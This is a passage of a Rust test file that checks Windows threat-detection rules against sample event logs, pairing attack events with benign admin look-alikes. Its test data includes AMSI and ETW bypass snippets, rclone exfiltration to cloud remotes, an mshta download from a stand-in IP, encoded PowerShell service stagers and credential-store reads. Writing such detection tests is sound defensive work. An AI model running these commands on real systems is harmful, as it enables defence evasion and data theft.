//! Table tests of the rules written for behaviours an EVTX-style probe of Windows attack
//! alerts found uncovered: events each rule must meet, and look-alikes of normal admin and
//! software work it must leave alone.

use serde_json::{Value, json};

use super::test_support::{embedded_rule as rule_info, embedded_titles, has, lacks};

#[allow(clippy::needless_pass_by_value)]
fn titles(provider: &str, channel: &str, event_id: u32, data: Value) -> Vec<String> {
    embedded_titles(provider, channel, event_id, &data)
}

fn sysmon(event_id: u32, data: Value) -> Vec<String> {
    titles(
        "Microsoft-Windows-Sysmon",
        "Microsoft-Windows-Sysmon/Operational",
        event_id,
        data,
    )
}

fn security(event_id: u32, data: Value) -> Vec<String> {
    titles(
        "Microsoft-Windows-Security-Auditing",
        "Security",
        event_id,
        data,
    )
}

/// A Sysmon process creation (event 1) by an ordinary user at high integrity.
fn proc(image: &str, cmd: &str, parent: &str, parent_cmd: &str) -> Vec<String> {
    let name = image.rsplit('\\').next().unwrap_or(image);
    proc_with(
        json!({"Image": image, "OriginalFileName": name, "CommandLine": cmd,
               "ParentImage": parent, "ParentCommandLine": parent_cmd,
               "User": "EXAMPLE\\bob", "IntegrityLevel": "High"}),
    )
}

fn proc_with(data: Value) -> Vec<String> {
    sysmon(1, data)
}

/// A Security 4688 process creation at the given mandatory label.
fn proc_4688(image: &str, cmd: &str, parent: &str, label: &str) -> Vec<String> {
    security(
        4688,
        json!({"NewProcessName": image, "CommandLine": cmd, "ParentProcessName": parent,
               "SubjectUserName": "bob", "SubjectDomainName": "EXAMPLE",
               "TokenElevationType": "%%1937", "MandatoryLabel": label}),
    )
}

#[track_caller]
fn level_is(title: &str, level: &str) {
    assert_eq!(rule_info(title).level.as_deref(), Some(level), "{title}");
}

const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const EXPLORER: &str = "C:\\Windows\\explorer.exe";

#[test]
fn signed_proxy_binaries_running_user_folder_payloads_match_and_installed_use_does_not() {
    let iu = "InstallUtil Runs An Assembly From A User-Writable Folder";
    let iu_bin = "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe";
    level_is(iu, "medium");
    for label in ["S-1-16-8192", "S-1-16-12288"] {
        has(
            &proc_4688(
                iu_bin,
                &format!("{iu_bin} /logfile= /LogToConsole=false /U C:\\Users\\Public\\pay.dll"),
                CMD,
                label,
            ),
            iu,
            label,
        );
    }
    has(
        &proc(
            iu_bin,
            "InstallUtil.exe C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe",
            PS,
            "powershell.exe",
        ),
        iu,
        "temp",
    );
    for (cmd, parent) in [
        (
            "InstallUtil.exe \"C:\\Program Files\\Contoso\\Agent\\ContosoAgent.exe\"",
            CMD,
        ),
        (
            "InstallUtil.exe /u C:\\Users\\dev\\source\\repos\\Svc\\bin\\Debug\\Svc.exe",
            PS,
        ),
        // an MSI custom action unpacked to the installer's temporary folder
        (
            "InstallUtil.exe C:\\Windows\\Temp\\MSI1234\\Service.dll",
            "C:\\Windows\\System32\\msiexec.exe",
        ),
    ] {
        lacks(&proc(iu_bin, cmd, parent, "x"), iu, cmd);
    }

    let odbc = "Odbcconf Registers A DLL Or Runs A Response File From A User-Writable Folder";
    let odbc_bin = "C:\\Windows\\System32\\odbcconf.exe";
    level_is(odbc, "medium");
    for cmd in [
        "odbcconf.exe /a {REGSVR C:\\Users\\bob\\AppData\\Local\\Temp\\x64.dll}",
        "odbcconf -f C:\\ProgramData\\cfg\\setup.rsp",
        "odbcconf.exe /F C:\\Users\\Public\\a.rsp",
    ] {
        has(&proc(odbc_bin, cmd, CMD, "cmd.exe"), odbc, cmd);
    }
    for cmd in [
        "odbcconf.exe /a {CONFIGSYSDSN \"SQL Server\" \"DSN=Sales|SERVER=db1\"}",
        "odbcconf.exe /a {INSTALLDRIVER \"Contoso ODBC|Driver=C:\\Program Files\\Contoso\\odbc.dll\"}",
        "odbcconf.exe /f \"C:\\Program Files\\Contoso\\odbc\\drivers.rsp\"",
    ] {
        lacks(&proc(odbc_bin, cmd, CMD, "cmd.exe"), odbc, cmd);
    }

    let cmstp = "CMSTP Installs A Profile From A User-Writable Folder Silently";
    let cmstp_bin = "C:\\Windows\\System32\\cmstp.exe";
    level_is(cmstp, "medium");
    for cmd in [
        "cmstp.exe /ni /s C:\\Users\\bob\\AppData\\Local\\Temp\\c.inf",
        "cmstp.exe /au C:\\Users\\Public\\vpn.inf",
    ] {
        has(&proc(cmstp_bin, cmd, CMD, "cmd.exe"), cmstp, cmd);
    }
    for (cmd, parent) in [
        // a CMAK package run from its IExpress extraction folder
        (
            "cmstp.exe /ni /s C:\\Users\\bob\\AppData\\Local\\Temp\\IXP000.TMP\\corpvpn.inf",
            "C:\\Users\\bob\\AppData\\Local\\Temp\\IXP000.TMP\\corpvpn.exe",
        ),
        (
            "cmstp.exe /s corpvpn.inf",
            "C:\\Windows\\System32\\wextract.exe",
        ),
        (
            "cmstp.exe /s \"C:\\Program Files\\Contoso VPN\\profile.inf\"",
            "C:\\Windows\\System32\\msiexec.exe",
        ),
        // an interactive install the user clicked through
        ("cmstp.exe C:\\Users\\bob\\Downloads\\vpn.inf", EXPLORER),
    ] {
        lacks(&proc(cmstp_bin, cmd, parent, "x"), cmstp, cmd);
    }

    let lua = "Shell Started By DllHost Hosting The CMSTPLUA Or CMLUAUTIL Elevation Object";
    let dllhost = "C:\\Windows\\System32\\DllHost.exe";
    level_is(lua, "high");
    for (child, cls) in [
        (CMD, "{3E5FC7F9-9A51-4367-9063-A120244FBEC7}"),
        (PS, "{3E000D72-A845-4CD9-BD83-80C07C3B881F}"),
    ] {
        has(
            &proc(
                child,
                "\"C:\\Windows\\System32\\cmd.exe\"",
                dllhost,
                &format!("C:\\Windows\\system32\\DllHost.exe /Processid:{cls}"),
            ),
            lua,
            cls,
        );
    }
    // Other COM surrogates and other children of the elevation object.
    lacks(
        &proc(
            CMD,
            "cmd.exe",
            dllhost,
            "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
        ),
        lua,
        "thumbnail surrogate",
    );
    lacks(
        &proc(
            "C:\\Windows\\System32\\cmdl32.exe",
            "cmdl32.exe /vpn /lan",
            dllhost,
            "C:\\Windows\\system32\\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}",
        ),
        lua,
        "connection manager helper",
    );
}

#[test]
fn archive_staging_and_rclone_exfiltration_match_and_backups_do_not() {
    let share =
        "Password-Protected Archive Of A Network Share Staged In A Public Or Temporary Folder";
    let profile = "Password-Protected Recursive Archive Of A User Profile Staged In A Public Or Temporary Folder";
    level_is(share, "medium");
    level_is(profile, "low");
    for (image, cmd) in [
        (
            "C:\\ProgramData\\rar.exe",
            "C:\\ProgramData\\rar.exe a -hpS3cret -m5 -r C:\\ProgramData\\fin.rar \\\\FS02\\Finance\\*.xlsx",
        ),
        (
            "C:\\Program Files\\7-Zip\\7z.exe",
            "7z.exe a -pinfected -mhe=on C:\\Users\\Public\\d.7z \\\\fs1\\hr$\\",
        ),
    ] {
        has(&proc(image, cmd, CMD, "cmd.exe"), share, cmd);
    }
    has(
        &proc(
            "C:\\Program Files\\WinRAR\\Rar.exe",
            "rar.exe a -hpX -r C:\\Windows\\Temp\\u.rar C:\\Users\\carol\\Documents\\*",
            CMD,
            "cmd.exe",
        ),
        profile,
        "profile",
    );
    for (image, cmd) in [
        // a backup job to a backup volume
        (
            "C:\\Program Files\\7-Zip\\7z.exe",
            "7z.exe a -pBackupKey -r E:\\Backups\\finance.7z \\\\fs1\\finance\\*",
        ),
        // no password
        (
            "C:\\Program Files\\WinRAR\\Rar.exe",
            "rar.exe a -r C:\\ProgramData\\logs.rar \\\\fs1\\logs\\*",
        ),
        // extracting, not archiving
        (
            "C:\\Program Files\\7-Zip\\7z.exe",
            "7z.exe x -pS3cret \\\\fs1\\drop\\tools.7z -oC:\\Windows\\Temp\\tools",
        ),
        // a user protecting one archive in their own profile
        (
            "C:\\Program Files\\WinRAR\\WinRAR.exe",
            "WinRAR.exe a -hpX C:\\Users\\carol\\Documents\\tax.rar C:\\Users\\carol\\Documents\\tax.pdf",
        ),
    ] {
        let got = proc(image, cmd, EXPLORER, "explorer.exe");
        lacks(&got, share, cmd);
        lacks(&got, profile, cmd);
    }

    let renamed = "Rclone Running Under Another File Name";
    let cloud = "Rclone Copies Data To A Cloud Remote With Exfiltration Options";
    level_is(renamed, "high");
    level_is(cloud, "medium");
    let exfil = "rc.exe copy C:\\ProgramData\\fin.rar mega:backup --config C:\\ProgramData\\svc\\rc.conf -q --ignore-existing --auto-confirm --multi-thread-streams 12";
    let got = proc_with(json!({"Image": "C:\\ProgramData\\svc\\rc.exe",
        "OriginalFileName": "rclone.exe", "CommandLine": exfil,
        "ParentImage": CMD, "ParentCommandLine": "cmd.exe", "User": "EXAMPLE\\adm"}));
    has(&got, renamed, "renamed");
    has(&got, cloud, "renamed");
    for cmd in [
        "rclone.exe copy \\\\fs1\\finance remote:loot --auto-confirm --ignore-existing -q",
        "rclone.exe sync D:\\data mega:x",
        "rclone.exe copy D:\\data s3:bucket --config C:\\Users\\Public\\r.conf",
    ] {
        has(
            &proc("C:\\Tools\\rclone.exe", cmd, CMD, "cmd.exe"),
            cloud,
            cmd,
        );
    }
    for cmd in [
        "rclone.exe sync D:\\Backups s3-backup:corp-backups --config C:\\Program Files\\Rclone\\rclone.conf --transfers 8",
        "rclone.exe lsd mega:",
        "rclone.exe config",
        "rclone.exe copy D:\\media gdrive:media --ignore-existing",
    ] {
        let got = proc("C:\\Program Files\\Rclone\\rclone.exe", cmd, CMD, "cmd.exe");
        lacks(&got, cloud, cmd);
        lacks(&got, renamed, cmd);
    }
}

#[test]
fn tscon_as_system_matches_and_administrators_reconnecting_do_not() {
    let hijack = "Tscon Run As SYSTEM To Take Over A Remote Desktop Session";
    let tscon = "C:\\Windows\\System32\\tscon.exe";
    level_is(hijack, "high");
    has(
        &proc_4688(tscon, "tscon.exe 2 /dest:rdp-tcp#3", CMD, "S-1-16-16384"),
        hijack,
        "4688 system",
    );
    has(
        &proc_with(json!({"Image": tscon, "OriginalFileName": "tscon.exe",
            "CommandLine": "tscon 3 /dest:rdp-tcp#0", "ParentImage": CMD,
            "User": "NT AUTHORITY\\SYSTEM", "IntegrityLevel": "System"})),
        hijack,
        "sysmon system",
    );
    lacks(
        &proc_4688(tscon, "tscon.exe 2 /dest:rdp-tcp#3", CMD, "S-1-16-12288"),
        hijack,
        "admin elevated",
    );
    lacks(
        &proc(tscon, "tscon 1 /password:x", CMD, "cmd.exe"),
        hijack,
        "admin with password",
    );
    lacks(
        &proc_4688(tscon, "tscon.exe 1 /dest:console", CMD, "S-1-16-16384"),
        hijack,
        "automation to console",
    );
}

#[test]
fn explorer_shells_running_dropped_programs_match_and_user_shells_do_not() {
    let dcom = "Explorer Starts A Shell That Runs A Program From A Temporary Or Public Folder";
    level_is(dcom, "medium");
    has(
        &proc_4688(
            CMD,
            "\"C:\\Windows\\system32\\cmd.exe\" /c C:\\Windows\\Temp\\beacon.exe",
            EXPLORER,
            "S-1-16-12288",
        ),
        dcom,
        "4688",
    );
    has(
        &proc(
            PS,
            "powershell.exe -c C:\\Users\\bob\\AppData\\Local\\Temp\\a.ps1",
            EXPLORER,
            "C:\\Windows\\explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding",
        ),
        dcom,
        "embedding",
    );
    for (cmd, parent_cmd) in [
        // a console opened from the desktop
        (
            "\"C:\\Windows\\system32\\cmd.exe\"",
            "C:\\Windows\\Explorer.EXE",
        ),
        // a batch file the user double-clicked in their temporary folder
        (
            "C:\\Windows\\system32\\cmd.exe /c \"\"C:\\Users\\bob\\AppData\\Local\\Temp\\fix.bat\" \"",
            "C:\\Windows\\Explorer.EXE",
        ),
        // PowerShell started from a folder window
        (
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoExit",
            "C:\\Windows\\explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding",
        ),
    ] {
        lacks(&proc(CMD, cmd, EXPLORER, parent_cmd), dcom, cmd);
    }
    lacks(
        &proc(
            CMD,
            "cmd.exe /c C:\\Windows\\Temp\\setup.exe",
            "C:\\Windows\\System32\\msiexec.exe",
            "msiexec.exe /V",
        ),
        dcom,
        "installer parent",
    );
}

#[test]
fn registry_persistence_in_disguised_folders_and_appinit_match_and_app_installs_do_not() {
    let run = "Autostart Run Key Registers A Program Hidden In A Roaming Or ProgramData Folder Named After A System Vendor";
    level_is(run, "medium");
    let set = |image: &str, key: &str, details: &str| {
        sysmon(
            13,
            json!({"EventType": "SetValue", "Image": image, "TargetObject": key,
                   "Details": details}),
        )
    };
    let hkcu_run =
        "HKU\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd";
    for (image, details) in [
        (
            "C:\\Users\\jo\\AppData\\Roaming\\Intel\\igfxupd.exe",
            "C:\\Users\\jo\\AppData\\Roaming\\Intel\\igfxupd.exe -silent",
        ),
        (
            "C:\\Users\\jo\\Downloads\\invoice.exe",
            "\"C:\\Users\\jo\\AppData\\Roaming\\Microsoft\\winhost.exe\"",
        ),
        ("C:\\ProgramData\\svc.exe", "C:\\ProgramData\\svchelper.exe"),
    ] {
        has(&set(image, hkcu_run, details), run, details);
    }
    for (image, details) in [
        // per-user applications registering themselves
        (
            "C:\\Users\\jo\\AppData\\Roaming\\Spotify\\Spotify.exe",
            "\"C:\\Users\\jo\\AppData\\Roaming\\Spotify\\Spotify.exe\" --autostart --minimized",
        ),
        (
            "C:\\Users\\jo\\AppData\\Local\\Microsoft\\Teams\\Update.exe",
            "C:\\Users\\jo\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart \"Teams.exe\"",
        ),
        (
            "C:\\Users\\jo\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
            "\"C:\\Users\\jo\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background",
        ),
        // a vendor program installed under Program Files
        (
            "C:\\Program Files\\Intel\\Driver\\setup.exe",
            "C:\\ProgramData\\Intel\\helper.exe",
        ),
    ] {
        lacks(&set(image, hkcu_run, details), run, details);
    }

    let appinit = "AppInit DLL Set Outside Program Files And System32";
    let load = "AppInit DLL Loading Switched On Or Signature Requirement Switched Off By Hand";
    level_is(appinit, "high");
    level_is(load, "medium");
    let win = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows\\";
    let wow = "HKLM\\SOFTWARE\\Wow6432Node\\Microsoft\\Windows NT\\CurrentVersion\\Windows\\";
    has(
        &set(
            "C:\\Windows\\regedit.exe",
            &format!("{win}AppInit_DLLs"),
            "C:\\ProgramData\\msvcx.dll",
        ),
        appinit,
        "programdata dll",
    );
    has(
        &set(
            "C:\\Users\\jo\\AppData\\Local\\Temp\\i.exe",
            &format!("{wow}AppInit_DLLs"),
            "C:\\Users\\jo\\AppData\\Roaming\\h.dll",
        ),
        appinit,
        "wow64",
    );
    has(
        &set(
            "C:\\Windows\\regedit.exe",
            &format!("{win}LoadAppInit_DLLs"),
            "DWORD (0x00000001)",
        ),
        load,
        "regedit load",
    );
    has(
        &set(
            "C:\\Windows\\System32\\reg.exe",
            &format!("{win}RequireSignedAppInit_DLLs"),
            "DWORD (0x00000000)",
        ),
        load,
        "reg unsigned",
    );
    for (image, value, details) in [
        (
            "C:\\Windows\\System32\\msiexec.exe",
            "AppInit_DLLs",
            "C:\\PROGRA~1\\Citrix\\System32\\mfaphook64.dll",
        ),
        (
            "C:\\Windows\\System32\\msiexec.exe",
            "AppInit_DLLs",
            "C:\\Program Files\\Citrix\\System32\\mfaphook64.dll",
        ),
        ("C:\\Windows\\regedit.exe", "AppInit_DLLs", "(Empty)"),
        (
            "C:\\Windows\\System32\\msiexec.exe",
            "LoadAppInit_DLLs",
            "DWORD (0x00000001)",
        ),
        (
            "C:\\Windows\\regedit.exe",
            "LoadAppInit_DLLs",
            "DWORD (0x00000000)",
        ),
    ] {
        let got = set(image, &format!("{win}{value}"), details);
        lacks(&got, appinit, details);
        lacks(&got, load, details);
    }
}

#[test]
fn mock_folders_timestomping_and_hollowing_match_and_normal_file_work_does_not() {
    let file = "File Written Into A Mock Windows Folder With A Trailing Space";
    let image = "Program Or DLL Loaded From A Mock Windows Folder With A Trailing Space";
    let process = "Process Started From A Mock Windows Folder With A Trailing Space";
    has(
        &sysmon(
            11,
            json!({"Image": CMD, "TargetFilename": "C:\\Windows \\System32\\WINMM.dll"}),
        ),
        file,
        "file",
    );
    has(
        &sysmon(
            7,
            json!({"Image": "C:\\Windows \\System32\\WinSAT.exe",
                   "ImageLoaded": "C:\\Windows \\System32\\WINMM.dll"}),
        ),
        image,
        "load",
    );
    has(
        &proc(
            "C:\\Windows \\System32\\WinSAT.exe",
            "WinSAT.exe formal",
            CMD,
            "cmd.exe",
        ),
        process,
        "process",
    );
    for target in [
        "C:\\Windows\\System32\\WINMM.dll",
        "C:\\Users\\jo\\Documents\\Windows notes\\a.txt",
        "D:\\Backups\\Windows 11\\boot.wim",
    ] {
        lacks(
            &sysmon(11, json!({"Image": CMD, "TargetFilename": target})),
            file,
            target,
        );
    }
    lacks(
        &sysmon(
            7,
            json!({"Image": "C:\\Windows\\System32\\WinSAT.exe",
                   "ImageLoaded": "C:\\Windows\\System32\\WINMM.dll"}),
        ),
        image,
        "system32",
    );

    let masq = "File Creation Time Changed By A Program Posing As A Windows Process";
    let user = "Executable's Creation Time Changed By A Program In A Temporary Or Download Folder";
    level_is(masq, "medium");
    level_is(user, "low");
    let stomp = |image: &str, target: &str| {
        sysmon(
            2,
            json!({"Image": image, "TargetFilename": target,
                   "CreationUtcTime": "2009-07-14 01:39:12.000",
                   "PreviousCreationUtcTime": "2026-03-23 05:59:58.341"}),
        )
    };
    let got = stomp(
        "C:\\Users\\jo\\AppData\\Local\\Temp\\svchost.exe",
        "C:\\Windows\\System32\\msupd64.dll",
    );
    has(&got, masq, "masquerading svchost");
    has(&got, user, "masquerading svchost");
    has(
        &stomp("C:\\ProgramData\\dllhost.exe", "C:\\ProgramData\\a.txt"),
        masq,
        "programdata dllhost",
    );
    for (image, target) in [
        (
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\System32\\drivers\\x.sys",
        ),
        (
            "C:\\Windows\\explorer.exe",
            "C:\\Users\\jo\\Documents\\a.exe",
        ),
        (
            "C:\\Program Files\\7-Zip\\7zFM.exe",
            "C:\\Users\\jo\\Desktop\\tool.exe",
        ),
        (
            "C:\\Users\\jo\\AppData\\Local\\Google\\Chrome\\Application\\chrome.exe",
            "C:\\Users\\jo\\Downloads\\setup.exe",
        ),
    ] {
        let got = stomp(image, target);
        lacks(&got, masq, image);
        lacks(&got, user, image);
    }
    // A setup program in Temp keeping its files' timestamps is only a lead.
    let got = stomp(
        "C:\\Users\\jo\\AppData\\Local\\Temp\\is-ABC.tmp\\setup.tmp",
        "C:\\Program Files\\Tool\\tool.exe",
    );
    has(&got, user, "setup");
    lacks(&got, masq, "setup");

    let hollow = "Windows Or User-Folder Process Image Replaced In Memory";
    level_is(hollow, "medium");
    let tamper = |image: &str, kind: &str| {
        sysmon(
            25,
            json!({"Image": image, "Type": kind, "User": "EXAMPLE\\bob"}),
        )
    };
    for image in [
        "C:\\Windows\\SysWOW64\\notepad.exe",
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Users\\bob\\AppData\\Roaming\\x\\loader.exe",
    ] {
        has(&tamper(image, "Image is replaced"), hollow, image);
    }
    for (image, kind) in [
        (
            "C:\\Program Files\\Contoso\\Updater\\update.exe",
            "Image is replaced",
        ),
        (
            "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
            "Image is replaced",
        ),
        (
            "C:\\Windows\\System32\\wbem\\WMIADAP.exe",
            "Image is replaced",
        ),
        (
            "C:\\Windows\\SoftwareDistribution\\Download\\Install\\AM_Delta_Patch.exe",
            "Image is replaced",
        ),
        (
            "C:\\Windows\\System32\\notepad.exe",
            "Image is locked for access",
        ),
    ] {
        lacks(&tamper(image, kind), hollow, image);
    }
}

#[test]
fn service_installs_share_writes_and_credential_store_reads_match_and_admin_work_does_not() {
    let shell = "Service Installed With A Shell Command As Its Binary (Security Log)";
    let encoded = "Service Installed To Run Hidden Or Encoded PowerShell";
    level_is(shell, "high");
    level_is(encoded, "high");
    let svc = |file: &str| {
        security(
            4697,
            json!({"SubjectUserName": "FS02$", "ServiceName": "5d3a1f7",
                   "ServiceFileName": file, "ServiceType": "0x10",
                   "ServiceStartType": "3", "ServiceAccount": "LocalSystem"}),
        )
    };
    let got = svc(
        "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -noni -c \"[Convert]::FromBase64String('H4sI')\"",
    );
    has(&got, shell, "stager");
    has(&got, encoded, "stager");
    has(
        &svc("cmd.exe /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat"),
        shell,
        "smbexec",
    );
    has(
        &titles(
            "Service Control Manager",
            "System",
            7045,
            json!({"ServiceName": "x", "ImagePath": "powershell.exe -NoP -EncodedCommand SQBFAFgA"}),
        ),
        encoded,
        "7045",
    );
    for file in [
        "\"C:\\Program Files\\Contoso\\Agent\\agent.exe\" -service",
        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p",
        "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2\\MsMpEng.exe\"",
    ] {
        let got = svc(file);
        lacks(&got, shell, file);
        lacks(&got, encoded, file);
    }
    // A monitoring wrapper that runs a signed script with PowerShell, neither hidden nor encoded.
    lacks(
        &svc("powershell.exe -File \"C:\\Program Files\\Contoso\\monitor.ps1\""),
        encoded,
        "plain script",
    );

    let share =
        "Program Or Script Written Over SMB Into A Staging Folder Of An Administrative Share";
    level_is(share, "medium");
    let write = |share_name: &str, target: &str, access: &str| {
        security(
            5145,
            json!({"SubjectUserName": "adm", "ShareName": share_name, "RelativeTargetName": target,
                   "AccessList": access, "IpAddress": "10.20.1.42", "ObjectType": "File"}),
        )
    };
    let wd = "%%4417\r\n\t\t\t\t";
    for (s, t) in [
        ("\\\\*\\C$", "ProgramData\\update\\rdpclip32.exe"),
        ("\\\\*\\ADMIN$", "aBcDeFgH.exe"),
        ("\\\\*\\C$", "Windows\\Temp\\run.ps1"),
        ("\\\\*\\C$", "Users\\Public\\x.dll"),
    ] {
        has(&write(s, t, wd), share, t);
    }
    for (s, t, a) in [
        ("\\\\*\\ADMIN$", "ccmsetup\\ccmsetup.exe", wd),
        ("\\\\*\\ADMIN$", "PSEXESVC.exe", wd),
        (
            "\\\\*\\C$",
            "ProgramData\\update\\rdpclip32.exe",
            "%%4416\r\n\t\t\t\t",
        ),
        ("\\\\*\\Software", "Installers\\setup.exe", wd),
        ("\\\\*\\C$", "ProgramData\\Contoso\\config.xml", wd),
        ("\\\\*\\C$", "Program Files\\Contoso\\agent.exe", wd),
    ] {
        lacks(&write(s, t, a), share, t);
    }

    let creds = "Browser Password Or Cookie Store Read By A Script Host Or A Program In A User-Writable Folder";
    level_is(creds, "medium");
    let read = |process: &str, object: &str| {
        security(
            4663,
            json!({"SubjectUserName": "jo", "ObjectType": "File", "ObjectName": object,
                   "AccessList": "%%4416\r\n\t\t\t\t", "AccessMask": "0x1",
                   "ProcessName": process}),
        )
    };
    let login = "C:\\Users\\jo\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data";
    let ff = "C:\\Users\\jo\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles\\ab12.default-release\\logins.json";
    for (process, object) in [
        ("C:\\Users\\jo\\AppData\\Local\\Temp\\chr0me_upd.exe", login),
        (
            PS,
            "C:\\Users\\jo\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Network\\Cookies",
        ),
        ("C:\\Users\\Public\\s.exe", ff),
        (
            "C:\\Windows\\System32\\esentutl.exe",
            "C:\\Users\\jo\\AppData\\Local\\Google\\Chrome\\User Data\\Local State",
        ),
    ] {
        has(&read(process, object), creds, process);
    }
    for (process, object) in [
        (
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            login,
        ),
        (
            "C:\\Users\\jo\\AppData\\Roaming\\Mozilla\\Firefox\\firefox.exe",
            ff,
        ),
        (
            "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2\\MsMpEng.exe",
            login,
        ),
        ("C:\\Program Files\\Backup Agent\\agent.exe", login),
        (PS, "C:\\Users\\jo\\Documents\\Login Data notes.txt"),
    ] {
        lacks(&read(process, object), creds, process);
    }
}

#[test]
fn defender_exclusions_for_staging_places_match_and_product_exclusions_do_not() {
    let excl = "Defender Exclusion Added For A Staging Folder, A Whole Drive, A Script Host Or An Executable Type";
    level_is(excl, "medium");
    let change = |new: &str| {
        titles(
            "Microsoft-Windows-Windows Defender",
            "Microsoft-Windows-Windows Defender/Operational",
            5007,
            json!({"Product Name": "%%827", "Product Version": "4.18.1907.4",
                   "Old Value": "", "New Value": new}),
        )
    };
    let key = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\";
    for v in [
        "Paths\\C:\\ProgramData = 0x0",
        "Paths\\C:\\ = 0x0",
        "Paths\\C:\\Users\\jo\\AppData\\Local\\Temp = 0x0",
        "Paths\\C:\\Users\\Public\\tools = 0x0",
        "Processes\\C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe = 0x0",
        "Processes\\C:\\Users\\jo\\AppData\\Roaming\\upd\\svc.exe = 0x0",
        "Extensions\\.exe = 0x0",
        "Extensions\\ps1 = 0x0",
    ] {
        has(&change(&format!("{key}{v}")), excl, v);
    }
    for v in [
        "Paths\\D:\\SQLData = 0x0",
        "Paths\\C:\\Program Files\\Veeam\\Backup = 0x0",
        "Paths\\C:\\ProgramData\\Contoso\\Cache = 0x0",
        "Processes\\C:\\Program Files\\Contoso\\agent.exe = 0x0",
        "Extensions\\.mdf = 0x0",
    ] {
        lacks(&change(&format!("{key}{v}")), excl, v);
    }
    lacks(
        &change(
            "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring = 0x0",
        ),
        excl,
        "other setting",
    );
}

#[test]
fn split_string_amsi_and_etw_tampering_match_and_ordinary_scripts_do_not() {
    let amsi = "PowerShell Script Block Reaches AMSI Internals Through Split Strings";
    let etw = "PowerShell Script Block Switches Off Its Own ETW Event Provider";
    level_is(amsi, "high");
    level_is(etw, "high");
    let block = |text: &str| {
        titles(
            "Microsoft-Windows-PowerShell",
            "Microsoft-Windows-PowerShell/Operational",
            4104,
            json!({"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text,
                   "ScriptBlockId": "1", "Path": ""}),
        )
    };
    for text in [
        "$a=[Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUtils');$b=$a.GetField('am'+'siInit'+'Failed','NonPublic,Static');$b.SetValue($null,$true)",
        "[Ref].Assembly.GetType(\"System.Management.Automation.Ams\"+\"iUtils\").GetField(\"amsiInit\"+\"Failed\",\"NonPublic,Static\").SetValue($null,$true)",
    ] {
        has(&block(text), amsi, text);
    }
    has(
        &block(
            "[Reflection.Assembly]::LoadWithPartialName('System.Core').GetType('System.Diagnostics.Eventing.EventProvider').GetField('m_enabled','NonPublic,Instance').SetValue([Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider').GetField('etwProvider','NonPublic,Static').GetValue($null),0)",
        ),
        etw,
        "etw",
    );
    for text in [
        // string building and reflection in ordinary module code
        "$name = 'Get-' + 'Item'; $t = [type]'System.IO.File'; $t.GetField('Empty')",
        "$msg = 'Init' + 'Failed: ' + $_.Exception.Message; Write-Error $msg",
        "Get-WinEvent -ProviderName 'Microsoft-Windows-PowerShell' | Where-Object { $_.Id -eq 4104 }",
        "$p = [System.Diagnostics.Eventing.EventProvider]; $p.GetProperty('IsEnabled')",
    ] {
        let got = block(text);
        lacks(&got, amsi, text);
        lacks(&got, etw, text);
    }
}

#[test]
fn wmi_activity_script_and_command_consumers_match_and_windows_defaults_do_not() {
    let wmi =
        "WMI Permanent Event Consumer Of The Script Or Command Line Type Bound (WMI-Activity)";
    level_is(wmi, "high");
    let bound = |consumer: &str, cause: &str| {
        titles(
            "Microsoft-Windows-WMI-Activity",
            "Microsoft-Windows-WMI-Activity/Operational",
            5861,
            json!({"Namespace": "//./root/subscription", "ESS": "F",
                   "CONSUMER": consumer, "PossibleCause": cause}),
        )
    };
    has(
        &bound(
            "ActiveScriptEventConsumer=\"BVTConsumer\"",
            "Binding EventFilter: \ninstance of __EventFilter\n{...};\nPerm. Consumer: \ninstance of ActiveScriptEventConsumer\n{\n\tScriptText = \"objShell.Run \\\"mshta.exe http://198.51.100.77/s.hta\\\"\";\n};\n",
        ),
        wmi,
        "active script",
    );
    has(
        &bound(
            "CommandLineEventConsumer=\"Updater\"",
            "Perm. Consumer: \ninstance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = \"powershell.exe -enc SQBFAFgA\";\n};\n",
        ),
        wmi,
        "command line",
    );
    for (consumer, cause) in [
        (
            "NTEventLogEventConsumer=\"SCM Event Log Consumer\"",
            "Perm. Consumer: \ninstance of NTEventLogEventConsumer\n{\n\tName = \"SCM Event Log Consumer\";\n};\n",
        ),
        (
            "CommandLineEventConsumer=\"BVTConsumer\"",
            "Perm. Consumer: \ninstance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = \"cscript KernCap.vbs\";\n\tWorkingDirectory = \"C:\\\\tools\\\\kernrate\";\n};\n",
        ),
        (
